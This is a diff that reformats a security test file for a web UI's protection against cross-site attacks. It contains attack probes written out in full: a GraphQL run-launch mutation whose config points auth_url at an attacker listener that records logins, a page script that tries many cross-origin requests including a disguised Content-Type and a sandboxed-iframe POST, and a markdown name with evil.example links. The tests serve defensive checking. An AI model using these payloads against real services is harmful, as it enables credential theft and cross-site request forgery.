@@ -1,6 +1,9 @@
-"""Attacks of other websites on a real UI: from a browser's pages, and in forms that browsers do not send. None starts anything.
+"""Attacks of other websites on a real UI.
 
-The service is a listener that records logins, in place of a real one: nothing may lead the password to it, or to the attacker's.
+They come from a browser's pages, and in forms that browsers do not send. None starts anything.
+
+The service is a listener that records logins, in place of a real one: nothing may lead the password to it, or to the
+attacker's.
 """
 
 from __future__ import annotations
@@ -103,7 +106,8 @@ class Ui:
             config or f'{{resources: {{enterprise: {{config: {{auth_url: "http://127.0.0.1:{self.evil.port}"}}}}}}}}'
         )
         return (
-            f"mutation {{ launchRun(executionParams: {{selector: {SELECTOR}, runConfigData: {json.dumps(stolen)}}}) {{ __typename "
+            f"mutation {{ launchRun(executionParams: {{selector: {SELECTOR}, runConfigData: {json.dumps(stolen)}}}) {{ "
+            "__typename "
             "... on LaunchRunSuccess { run { runId } } ... on PythonError { message } "
             "... on RunConfigValidationInvalid { errors { message } } } }"
         )
@@ -220,7 +224,8 @@ const socket = () => {
   return end;
 };
 const sandboxed = () => element("iframe", {sandbox: "allow-scripts", srcdoc:
-  `<script>fetch(${JSON.stringify(target)}, {method: "POST", mode: "no-cors", body: ${JSON.stringify(body)}})<` + `/script>`});
+  `<script>fetch(${JSON.stringify(target)}, {method: "POST", mode: "no-cors", body: ${JSON.stringify(body)}})<` +
+  `/script>`});
 const tries = {
   image: element("img", {src: query}),
   script: element("script", {src: query}),
@@ -228,7 +233,8 @@ const tries = {
   frame: element("iframe", {src: query}),
   simple: fetch(query, {mode: "no-cors", headers: {Accept: "text/html"}}),
   plain: fetch(target, {method: "POST", mode: "no-cors", body}),
-  disguised: fetch(target, {method: "POST", mode: "no-cors", body, headers: {"Content-Type": "text/plain; a=application/json"}}),
+  disguised: fetch(target, {method: "POST", mode: "no-cors", body,
+    headers: {"Content-Type": "text/plain; a=application/json"}}),
   empty: fetch(query, {method: "POST", mode: "no-cors"}),
   preflight: fetch(target, {method: "POST", body, headers: {"Content-Type": "application/json"}}),
   put: fetch(target, {method: "PUT", body, headers: {"Content-Type": "application/json"}}),
@@ -241,7 +247,8 @@ const tries = {
   socket: socket(),
 };
 navigator.sendBeacon(query, body);
-Promise.all(Object.entries(tries).map(async ([name, end]) => [name, await Promise.resolve(end).then(e => e.type || e, e => e.name)]))
+Promise.all(Object.entries(tries).map(async ([name, end]) =>
+  [name, await Promise.resolve(end).then(e => e.type || e, e => e.name)]))
   .then(found => { window.found = Object.fromEntries(found); document.title = "done"; });
 </script>"""
 
@@ -292,7 +299,10 @@ def test_pages_of_other_websites_start_nothing_and_the_uis_own_page_works(ui):
 
 
 def _no_frame_shows_it(ui: Ui, page: Any) -> None:
-    """The public name over plain http, to which browsers send no Sec-Fetch-Dest: whoever frames the UI could have it clicked."""
+    """The public name over plain http, to which browsers send no Sec-Fetch-Dest.
+
+    Whoever frames the UI could have it clicked.
+    """
     public = "http://mirror.example.org/assets"
     answer = page.goto(public)
     assert (answer.status, "sec-fetch-dest" in answer.request.all_headers()) == (200, False)
@@ -303,7 +313,10 @@ def _no_frame_shows_it(ui: Ui, page: Any) -> None:
     assert frame.url == "chrome-error://chromewebdata/"
 
 
-NAME = "[free](https://evil.example/a) ![](https://evil.example/b.png) <img src=https://evil.example/c> https://evil.example/d www.evil.example"
+NAME = (
+    "[free](https://evil.example/a) ![](https://evil.example/b.png) <img src=https://evil.example/c> "
+    "https://evil.example/d www.evil.example"
+)
 
 
 def _names_in_markdown_are_text(ui: Ui, page: Any) -> None:
